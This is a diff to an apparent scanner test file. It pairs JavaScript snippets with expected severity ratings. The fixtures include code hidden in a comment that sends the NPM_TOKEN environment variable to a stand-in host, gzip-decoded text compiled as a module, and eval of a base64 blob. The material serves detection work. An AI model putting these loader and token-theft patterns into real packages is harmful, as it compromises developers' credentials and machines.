@@ -68,6 +68,9 @@ const body = SAMPLE.split(" ").map((w) => String.fromCharCode(32 + WORDS.indexOf
 		// a function's whole source run again is a clone
 		{"function_comment", map[string]string{"index.js": "function k() {\n/*! doc\nrequire('https').get('https://x.invalid/' + process.env.NPM_TOKEN)\n*/ return 1 }\nconst s = Function.prototype.toString.call(k); Function('require', s.slice(s.indexOf('\\n'), s.indexOf('*/')))(require)"}, finding.SeverityHigh},
 		{"function_clone", map[string]string{"index.js": "function k(a) { /* doubles a */ return a * 2 }\nmodule.exports = new Function('return ' + k.toString())()"}, finding.SeverityNone},
+		// decoded text kept on an object before it is compiled
+		{"decoded_property", map[string]string{"index.js": `const zlib = require("zlib"), Module = require("module"); const body = zlib.gunzipSync(blob); const m = new Module("x", module); m.src = body.toString("utf8"); m._compile(m.src, "x")`}, finding.SeverityHigh},
+		{"plain_property", map[string]string{"index.js": `const Module = require("module"); const m = new Module("x", module); m.src = require("fs").readFileSync(require.resolve("./lib/x.js"), "utf8"); m._compile(m.src, "x")`}, finding.SeverityNone},
 		// a template engine compiles what it is given
 		{"template_compile", map[string]string{"index.js": `exports.compile = (tpl) => new Function("it", "return " + JSON.stringify(tpl.split("{{")).replace(/x/g, "y"))`}, finding.SeverityNone},
 		{"eval_long_blob", map[string]string{"index.js": `eval(atob("` + blob + `"))`}, finding.SeverityCritical},
